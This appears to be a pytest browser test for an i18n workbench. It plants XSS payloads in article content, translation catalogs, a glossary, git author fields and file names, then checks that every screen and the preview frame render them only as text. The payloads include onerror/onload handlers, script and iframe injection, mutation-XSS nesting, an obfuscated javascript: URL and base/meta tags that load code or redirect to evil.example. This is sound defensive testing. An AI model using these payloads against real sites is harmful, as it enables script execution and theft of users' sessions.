"""W3 and X1: whatever an article, a catalog, a glossary, a person or a file is called or says, it is shown as text.

Each payload stands in each place from which a screen takes a text; a browser then goes through all screens.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest

from i18nflow.catalogs.po import read_catalog, write_catalog
from i18nflow.model import Entry, Key
from i18nflow.preview.allowed import ATTRIBUTES, COMMON, TAGS
from i18nflow.project import usecases
from tests.browser.workbench.conftest import Start, Visit
from tests.browser.workbench.visitor import Visitor, free_port, invite

PAYLOADS = (
    "<img src=https://evil.example/q.png onerror=alert(1)>",
    "<script>alert(2)</script>",
    "<script src=//evil.example/x.js></script>",
    "<iframe srcdoc='<script>parent.alert(3)</script>' src=https://evil.example/></iframe>",
    "<svg onload=alert(4)><style>@import url(https://evil.example/x.css)</style></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(5)></style></mglyph></mtext></math>",
    "</main></textarea></title><meta http-equiv=refresh content='0;url=https://evil.example/alert(6)'>",
    "<form action=https://evil.example/><input autofocus onfocus=alert(7)></form>",
    "<a href=jav&#x09;ascript:alert(8) ping=https://evil.example/p>x</a>",
    "<p style=background:url(https://evil.example/g.png?alert(9)) onmouseover=alert(9)>x</p>",
    "\"'><base href=https://evil.example/alert(10)><link rel=stylesheet href=//evil.example/x.css>",
    "<noscript><p title='</noscript><img src=x onerror=alert(11)>'></noscript>",
    "\u202e{{7*7}}${alert(12)}<b data-unit=0 class=current id=page>\u2066",
)
TERM, PERSON, FILE = "敌意术语<img src=x onerror=alert(20)>", "<img src=x onerror=alert(21)>", "<img src=x onerror=alert(22)>"
CONFIG = """locales = ["en"]

[[trees]]
root = "content"
pattern = "news/{locale}/**/*.md"

[[trees]]
root = "."
pattern = "i18n/locales/{locale}.json"
"""
PLACES = ("标题", "段落", "列表", "单元", "链接", "图", "部件", "头")
"""A heading, paragraph, item of a list, cell, link, image's text, prop of a component, field of the front matter."""
OWN = {"html", "head", "body", "main", "meta", "title", "link", "style"}
"""Elements of the frame that are ours; a ``style`` is Chromium's own."""
ACTIVE = """() => {
  const bad = ["script", "iframe", "object", "embed", "base", "meta", "link", "style", "math", "img", "noscript", "video"];
  const address = /^(?:href|src|srcset|action|formaction|data|poster|ping|background|style|xlink:href|srcdoc)$/i;
  const isOdd = ({ name, value }) => /^on/i.test(name) || (address.test(name) && !/^[/#]/.test(value));
  const inside = [...document.querySelectorAll("header *, main *, #notices *, #alerts *, dialog *")];
  const ours = (node) => node.id === "preview" && node.localName === "iframe";
  return inside
    .filter((node) => !ours(node) && (bad.includes(node.localName) || [...node.attributes].some(isOdd)))
    .map((node) => node.outerHTML.slice(0, 200));
}"""
"""Elements of a page that a payload could have made."""
FRAME = """() => [...document.querySelectorAll("*")].map(
  (node) => [node.localName, Object.fromEntries([...node.attributes].map(({ name, value }) => [name, value]))])"""


def article() -> str:
    """A source text with each payload at each place of an article."""
    head = " ".join(PAYLOADS).replace("'", "''")
    parts = [
        f"---\ntitle: '头 {head}'\ndescription: '头 {head}'\n---\n\n# 开始\n\n远处的图：![远](https://evil.example/i.png)\n"
    ]
    for payload in PAYLOADS:
        cell, prop = payload.replace("|", r"\|"), payload.replace("'", "''")
        parts.append(f"## 标题 {payload}\n\n段落 {payload} 敌意术语\n\n{payload}\n\n- 列表 {payload}\n")
        parts.append(f"| 表 | 格 |\n|---|---|\n| 单元 {cell} | 是 |\n")
        parts.append(f"[链接 {payload}](https://example.org) [链接](javascript:alert(1)) ![图 {payload}](/images/x.png)\n")
        parts.append(f"::card\n---\ntitle: '部件 {prop}'\n---\n内容\n::\n")
    return "\n".join(parts)


def translated(number: int, entry: Entry) -> Entry:
    """A payload as translation, as a comment, in a remark; what is approved, a draft, or as the source is."""
    payload = PAYLOADS[number % len(PAYLOADS)]
    text = (payload, entry.msgid, "")[number % 3]
    flags = ("fuzzy",) if number % 2 and text else ()
    previous = Key(entry.msgctxt, payload) if flags else None
    return replace(entry, msgstr=text, flags=flags, comments=(*entry.comments, payload), previous=previous)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    (root / "content/news/zh").mkdir(parents=True)
    (root / "i18n/locales").mkdir(parents=True)
    (root / "i18nflow.toml").write_text(CONFIG, "utf-8")
    (root / "content/news/zh/hostile.md").write_text(article(), "utf-8")
    (root / f"content/news/zh/{FILE}.md").write_text("# 标题\n\n敌意术语在此。\n", "utf-8")
    (root / "i18n/locales/zh.json").write_text(json.dumps({payload: f"消息 {payload}" for payload in PAYLOADS}), "utf-8")
    head = "term,target,locale,variants,forbidden,part_of_speech,domain,note,do_not_translate\n"
    rows = [
        ",".join(f'"{cell}"' for cell in (f"术语{at}", one, "en", f"v{one}", f"w{one}", one, one, one, ""))
        for at, one in quoted()
    ]
    terms = f"{head}{TERM},target,en,,,,,,\n敌意术语,{PERSON},en,,,,,{PERSON},\n"
    (root / "glossary.csv").write_text(terms + "\n".join(rows), "utf-8")
    project = usecases.open_project(root)
    usecases.extract(project)
    usecases.update(project)
    for path in (root / "locales/en").rglob("*.po"):
        catalog = read_catalog(path.read_text("utf-8"))
        entries = tuple(translated(number, entry) for number, entry in enumerate(catalog.entries))
        path.write_text(write_catalog(replace(catalog, entries=entries)), "utf-8")
    by = ("-c", f"user.name={PERSON}", "-c", "user.email=<b onclick=alert(23)>")
    for command in (("init", "-q"), ("add", "-A"), (*by, "commit", "-qm", PAYLOADS[0])):
        subprocess.run(["git", "-C", str(root), *command], check=True, capture_output=True)
    return root


def quoted() -> Sequence[tuple[int, str]]:
    return tuple(enumerate(payload.replace('"', '""') for payload in PAYLOADS))


def test_nothing_hostile_becomes_more_than_text(hostile: Path, start: Start, visit: Visit) -> None:
    port = free_port()
    links = [invite(hostile, name, port, "review") for name in (PERSON, "Anna")]
    server = start(hostile, "--share", port=port)
    mallory, anna = (visit(server, link) for link in links)
    mallory.edit(quote(f"news/{FILE}"))
    mallory.type("Hostile alert(24)")
    mallory.keys("Control+s")
    mallory.saved()
    texts = "/search?q=alert", f"/search?q={quote(PAYLOADS[1])}", "/checks", "/glossary/en", "/review/en", "/twins/en"
    for path in ("/", *texts, "/history/en/news/hostile", f"/history/en/{quote(f'news/{FILE}')}", "/activity"):
        anna.open(path)
        harmless(anna, path, path != "/twins/en")
    for name in (f"news/{FILE}", "i18n/locales"):
        anna.edit(quote(name))
        anna.row.locator(".aids[data-ready]").wait_for()
        harmless(anna, name)
        if name != "i18n/locales":
            anna.page.locator(".person").first.wait_for()  # Mallory is there
    with anna.page.expect_response("**/api/preview/**") as told:
        anna.edit("news/hostile")
    cleaned("".join(block["html"] for block in told.value.json()["blocks"]))
    for place in PLACES:
        anna.page.locator("li.unit", has=anna.page.locator(".source", has_text=place)).last.click(position={"x": 5, "y": 5})
        anna.row.locator(".aids[data-ready]").wait_for()
        harmless(anna, place)
    in_frame(anna)


def harmless(one: Visitor, where: str, is_told: bool = True) -> None:
    """Nothing of a payload is an element, and it can be read."""
    assert one.page.evaluate(ACTIVE) == [], where
    assert one.dialogs == [], where
    assert ("alert(" in (one.page.locator("main").text_content() or "")) == is_told, where


def cleaned(html: str) -> None:
    """It has been through the cleaner, whose parser adds what the renderer leaves out and spells quotes its own way."""
    assert "<table><tbody><tr>" in html
    assert "<table><tr>" not in html
    assert "&#x27;" not in html


def in_frame(one: Visitor) -> None:
    """The preview has elements and attributes of the list only, and no image from elsewhere."""
    found = one.page.frames[1].evaluate(FRAME)
    assert len(found) > 100
    assert {name for name, _ in found} <= TAGS | OWN
    inside = [(name, attributes) for name, attributes in found if name not in OWN]
    for name, attributes in inside:
        assert set(attributes) <= {*COMMON, "class", *ATTRIBUTES.get(name, ())}, name
        assert not attributes.get("src", "data:").startswith("http")
    text = one.page.frames[1].locator("body").text_content()
    assert "alert(1)" in text
